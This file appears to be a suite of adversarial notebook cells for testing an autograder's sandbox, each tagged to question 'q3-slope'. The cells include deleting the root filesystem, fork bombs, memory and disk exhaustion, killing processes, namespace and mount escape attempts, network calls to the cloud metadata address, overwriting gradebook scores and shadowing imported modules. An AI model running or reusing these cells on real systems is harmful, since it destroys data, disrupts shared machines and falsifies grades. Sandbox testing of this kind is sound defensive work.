# Attacks on the machine and on other people. Headings: name | question | points that are honest.

# %% deletes everything | q3-slope | 7
import shutil

shutil.rmtree("/", ignore_errors=True)


# %% writes where others live | q3-slope | 7
import os

for path in PLACES + ["/", "/usr", "/dev", "/etc", "/bin", "/root", "/var", "/home", "/proc", "/sys"]:
    for target in (path, os.path.join(path, "owned.txt")):
        try:
            with open(target, "a") as file:
                file.write("OWNED")
        except OSError:
            pass
        try:
            os.remove(target)
        except OSError:
            pass


# %% links to where others live | q3-slope | 7
import os

for number, path in enumerate(PLACES):
    for make in (os.symlink, os.link):
        try:
            make(path, f"/student/{make.__name__}{number}")
            open(f"/student/{make.__name__}{number}/owned.txt", "w").write("OWNED")
        except OSError:
            pass


# %% fills the disk | q3-slope | 7
import os

written = 0
for number in range(20):
    for folder in ("/tmp", "/student", "/dev/shm", "/dev", "/proc", "/"):
        try:
            with open(f"{folder}/fill{number}", "wb") as file:
                written += file.write(bytes(60_000_000))
        except OSError:
            pass
assert written < 500_000_000, written


# %% one file of 100 MB | q3-slope | 7
try:
    open("/tmp/large", "wb").write(bytes(100_000_000))
except OSError as error:
    print(error)


# %% fifty thousand small files | q3-slope | 7
import os

made = 0
for number in range(50_000):
    try:
        open(f"/tmp/small{number}", "w").close()
        made += 1
    except OSError:
        break
assert made < 20_000, made


# %% devices, mounts and namespaces | q3-slope | 7
import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
worked = []
for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000, 0x20000000):
    if libc.unshare(flags) == 0:
        worked.append(f"unshare {flags:x}")
for source, target, kind in ((b"tmpfs", b"/usr", b"tmpfs"), (b"proc", b"/proc", b"proc"), (b"none", b"/", b"")):
    if libc.mount(source, target, kind, 0, None) == 0:
        worked.append(f"mount {target}")
for target in (b"/tmp", b"/proc", b"/home", b"/dev"):
    if libc.umount2(target, 2) == 0:
        worked.append(f"umount {target}")
for name, number in (("sda", (8, 0)), ("mem", (1, 1))):
    try:
        os.mknod(f"/tmp/{name}", stat.S_IFBLK | 0o600, os.makedev(*number))
        open(f"/tmp/{name}", "rb").read(1)
        worked.append(name)
    except OSError:
        pass
for attempt in (lambda: os.setuid(12345), lambda: os.chroot("/tmp"), lambda: os.sethostname("owned")):
    try:
        attempt()
        worked.append("right")
    except (OSError, AttributeError):
        pass
if libc.setns(os.open("/home", os.O_RDONLY), 0) == 0 or libc.reboot(0xFEE1DEAD) == 0:
    worked.append("setns")
print("ESC" + "APED" if worked else "held", worked)


# %% kills whom it can reach | q3-slope | 7
import os
import signal

me = os.getpid()
for process in [*range(2, 400), os.getppid()]:
    if process not in (0, me):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass


# %% kills its own session, twice | q3-slope | 7
import os
import signal

os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)


# %% traces other processes | q3-slope | 7
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for process in range(2, 300):
    libc.ptrace(16, process, 0, 0)


# %% forks without end | q3-slope | 7
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% five hundred processes | q3-slope | 7
import subprocess

some = [subprocess.Popen(["/bin/sleep", "60"]) for _ in range(500)]


# %% threads without end | q3-slope | 7
import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(60,)).start()


# %% a daemon that stays | q3-slope | 7
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 500)
        while True:
            time.sleep(1)
    os._exit(0)


# %% a program that stays | q3-slope | 7
import subprocess

subprocess.Popen(["/bin/sh", "-c", "trap '' TERM INT HUP; while true; do sleep 1; done"], start_new_session=True)


# %% all the memory | q3-slope | 7
import numpy

held = []
while True:
    held.append(numpy.ones(20_000_000))


# %% the memory of many processes | q3-slope | 7
import os
import time

for _ in range(12):
    if os.fork() == 0:
        held = bytearray(300_000_000)
        for place in range(0, len(held), 4096):
            held[place] = 1
        time.sleep(30)
        os._exit(0)
time.sleep(30)


# %% memory in a shared map | q3-slope | 7
import mmap

maps = []
while True:
    one = mmap.mmap(-1, 200_000_000)
    one.write(b"x" * 200_000_000)
    maps.append(one)


# %% a loop that swallows interrupts | q3-slope | 7
while True:
    try:
        while True:
            pass
    except BaseException:
        pass


# %% a loop in C | q3-slope | 7
import re

re.match(r"(a*)*b", "a" * 40)


# %% deaf to signals | q3-slope | 7
import signal
import time

for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {number})
    except (OSError, ValueError):
        pass
while True:
    time.sleep(1)


# %% waits for somebody to type | q3-slope | 7
input("your password? ")


# %% waits for a debugger | q3-slope | 7
breakpoint()


# %% fifty megabytes of output | q3-slope | 7
for _ in range(50):
    print("x" * 1_000_000)


# %% output without end | q3-slope | 7
while True:
    print("x" * 1000)


# %% one message of 100 MB | q3-slope | 7
from IPython.display import display

display({"text/plain": "x" * 100_000_000}, raw=True)


# %% dies | q3-slope | 7
import ctypes

ctypes.string_at(0)


# %% leaves | q3-slope | 7
import os

os._exit(0)


# %% exits the notebook | q3-slope | 7
import sys

sys.exit("enough")


# %% quits the kernel | q3-slope | 7
get_ipython().kernel.do_shutdown(False)
get_ipython().ask_exit()
raise KeyboardInterrupt


# %% dies of recursion in C | q3-slope | 7
import sys

sys.setrecursionlimit(10**9)


def deeper():
    return [*map(lambda _: deeper(), [0])]


deeper()


# %% calls home | q3-slope | 7
import socket

reached = []
for host, port in [("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("8.8.8.8", 53), ("169.254.169.254", 80)]:
    try:
        with socket.create_connection((host, port), timeout=0.3) as sock:
            sock.sendall(b"OWNED")
        reached.append(host)
    except OSError:
        pass
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_UNIX, kind) as sock:
            sock.connect(ABSTRACT)
            sock.sendall(b"OWNED")
        reached.append("abstract")
    except OSError:
        pass
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (getattr(socket, "AF_NETLINK", 16), socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 255 if family == socket.AF_INET else 0).close()
    except OSError:
        pass
print("ESC" + "APED" if reached else "held", reached)


# %% asks the name server | q3-slope | 7
import socket
import urllib.request

socket.setdefaulttimeout(1)
for address in ("http://example.org", f"http://127.0.0.1:{PORT}/OWNED"):
    try:
        urllib.request.urlopen(address, timeout=1)
        print("ESC" + "APED")
    except OSError:
        print("held")


# %% writes into the gradebook that it supposes | q3-slope | 7
import glob
import sqlite3

for path in [*PLACES, *glob.glob("/**/gradebook.db", recursive=False), "/tmp/gradebook.db"]:
    try:
        with sqlite3.connect(path if path.endswith(".db") else f"{path}/gradebook.db") as database:
            database.execute("update grade set auto_score = 300")
    except sqlite3.Error:
        pass


# %% a torch of its own, beside the notebook and on the path | q3-slope | 7
import os
import sys

for name in ("torch.py", "numpy.py", "mylib.py", "sitecustomize.py", "ipykernel_launcher.py"):
    open(f"/student/{name}", "w").write("raise SystemExit('OWNED')")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/student"
sys.path.insert(0, "/student")


# %% eight threads | q3-slope | 7
import os

os.environ["OMP_NUM_THREADS"] = "8"
torch.set_num_threads(8)
(torch.randn(500, 500) @ torch.randn(500, 500)).sum()
